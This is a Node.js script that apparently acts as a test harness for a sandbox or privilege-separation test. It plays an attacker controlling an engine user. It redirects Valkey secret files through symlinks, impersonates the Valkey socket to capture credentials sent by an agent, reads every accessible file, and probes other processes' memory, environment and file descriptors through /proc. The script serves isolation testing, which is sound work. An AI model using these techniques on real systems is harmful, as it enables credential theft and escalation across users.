/**
 * Program of an attacker who controls the engine's user: `hostile-engine.mjs STATE RUN DATA REPORT STOP`. It replaces
 * Valkey's socket, links the engine's files to the agent's, reads all that it can below the machine's directories, and
 * writes its findings to REPORT once STOP exists.
 */
import { accessSync, chmodSync, constants, existsSync, readdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { connect, createServer } from "node:net";
import { join } from "node:path";

const [state, run, data, report, stop] = process.argv.slice(2);
const mine = process.getuid();
const tried = (attempt) => {
  try {
    return attempt() ?? "done";
  } catch (error) {
    return error.code ?? error.message;
  }
};
const can = (path, mode) => tried(() => accessSync(path, mode)) === "done";

function* below(directory) {
  for (const entry of (() => { try { return readdirSync(directory, { withFileTypes: true }); } catch { return []; } })()) {
    const path = join(directory, entry.name);
    yield [path, entry];
    if (entry.isDirectory()) yield* below(path);
  }
}

// The agent signs in at this socket with the credential in this file.
let received = "";
const secret = join(data, "valkey", "platform.secret");
const socket = join(run, "engine", "valkey.sock");
renameSync(secret, `${secret}.was`);
symlinkSync(join(state, "identity.json"), secret);
rmSync(join(data, "valkey", "users.made"), { force: true });
symlinkSync(join(state, "enrollment.json"), join(data, "valkey", "users.made"));
if (existsSync(socket)) renameSync(socket, `${socket}.was`);
const server = createServer((client) => {
  client.on("error", () => client.destroy());
  client.on("data", (bytes) => {
    received += bytes.toString("latin1");
    // Every command succeeds, so that the agent continues.
    client.write("+OK\r\n");
  });
}).listen(socket);
await new Promise((resolve) => server.once("listening", resolve));
chmodSync(socket, 0o777);

// Time: the rate of the checks, in a program of one file.
while (!existsSync(stop)) await new Promise((resolve) => setTimeout(resolve, 50));

const readable = {};
const writable = [];
const sockets = [];
for (const [path, entry] of [...below(state), ...below(run)]) {
  if (path.startsWith(join(run, "engine"))) continue;
  if (entry.isSocket()) sockets.push(path);
  else if (entry.isFile() && can(path, constants.R_OK)) readable[path] = readFileSync(path, "latin1");
  if (can(path, constants.W_OK)) writable.push(path);
}
for (const name of ["identity.json", "enrollment.json", "journal", "keeper.sock"])
  for (const path of [join(state, name), join(run, name)]) if (can(path, constants.R_OK | constants.W_OK)) writable.push(path);
const dialed = await Promise.all(
  [...sockets, join(run, "keeper.sock")].map(
    (path) =>
      new Promise((resolve) => {
        const client = connect(path, () => resolve([path, "connected"]));
        client.on("error", (error) => resolve([path, error.code]));
      }),
  ),
);
// Processes of others: their memory, their variables, their files and signals to them are all denied.
const others = readdirSync("/proc").filter((pid) => /^\d+$/.test(pid)).flatMap((pid) => {
  const status = tried(() => readFileSync(`/proc/${pid}/status`, "latin1"));
  const uid = Number(/^Uid:\t(\d+)/m.exec(status)?.[1] ?? mine);
  return uid === mine ? [] : [{
    pid: Number(pid),
    uid,
    environment: tried(() => readFileSync(`/proc/${pid}/environ`).length),
    memory: tried(() => readFileSync(`/proc/${pid}/mem`).length),
    files: tried(() => readdirSync(`/proc/${pid}/fd`).length),
    signal: tried(() => process.kill(Number(pid), 0)),
  }];
  // Checked last: a process that ended during the attempts cannot be inspected.
}).filter(({ signal }) => signal !== "ESRCH");
writeFileSync(report, JSON.stringify({ received, readable, writable, dialed, others }));
process.exit(0);
